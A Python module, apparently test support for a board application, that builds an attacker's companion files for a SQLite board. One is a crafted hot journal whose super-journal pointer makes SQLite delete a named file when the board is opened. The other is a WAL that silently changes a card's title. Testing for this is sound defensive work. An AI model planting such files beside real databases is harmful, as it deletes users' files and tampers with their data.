"""Files an attacker ships beside a board: a crafted hot journal, a WAL, an -shm.

The journal follows SQLite's rollback journal format: a 28-byte header (magic, record
count, checksum nonce, initial database size in pages, sector size, page size) padded
to one sector, no page records, and a super-journal ("master journal") pointer at the
very end: the page number PENDING_BYTE / page_size + 1, the name, its length, the sum of
its bytes and the magic again. SQLite plays such a journal back on the first read and
then deletes the file it names, when that file exists.
"""

import shutil
import sqlite3
import struct
from pathlib import Path

JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
PENDING_BYTE = 0x40000000
SECTOR = 512


def journal_of(board: Path) -> Path:
    return board.with_name(board.name + "-journal")


def wal_of(board: Path) -> Path:
    return board.with_name(board.name + "-wal")


def shm_of(board: Path) -> Path:
    return board.with_name(board.name + "-shm")


def _page_size_and_count(board: Path) -> tuple[int, int]:
    head = board.read_bytes()[:100]
    page_size = int.from_bytes(head[16:18], "big")
    page_size = 65536 if page_size == 1 else page_size
    return page_size, board.stat().st_size // page_size


def crafted_journal(board: Path, super_journal: str | None) -> bytes:
    """A hot journal for ``board`` with no page records, naming ``super_journal``."""
    page_size, pages = _page_size_and_count(board)
    header = JOURNAL_MAGIC + struct.pack(">IIIII", 0, 0x5EED1E55, pages, SECTOR, page_size)
    journal = header.ljust(SECTOR, b"\0")
    if super_journal is not None:
        name = super_journal.encode()
        journal += (
            struct.pack(">I", PENDING_BYTE // page_size + 1)
            + name
            + struct.pack(">II", len(name), sum(name))
            + JOURNAL_MAGIC
        )
    return journal


def plant_journal(board: Path, super_journal: str | None) -> bytes:
    """Write the crafted journal beside ``board``; returns its bytes."""
    data = crafted_journal(board, super_journal)
    journal_of(board).write_bytes(data)
    return data


def plant_wal(board: Path, title: str) -> bytes:
    """Write beside ``board`` a WAL that renames its first card to ``title``.

    Made from a copy of the board in WAL mode, so its frames fit the board's pages.
    """
    source = board.with_name("wal-maker.evboard")
    shutil.copyfile(board, source)
    connection = sqlite3.connect(source, isolation_level=None)
    try:
        connection.execute("PRAGMA journal_mode = WAL")
        connection.execute("PRAGMA wal_autocheckpoint = 0")
        connection.execute(
            "UPDATE cards SET title = ? WHERE rowid = (SELECT min(rowid) FROM cards)", (title,)
        )
        data = wal_of(source).read_bytes()
        wal_of(board).write_bytes(data)
    finally:
        connection.close()
    for leftover in board.parent.glob("wal-maker.evboard*"):
        leftover.unlink()
    return data
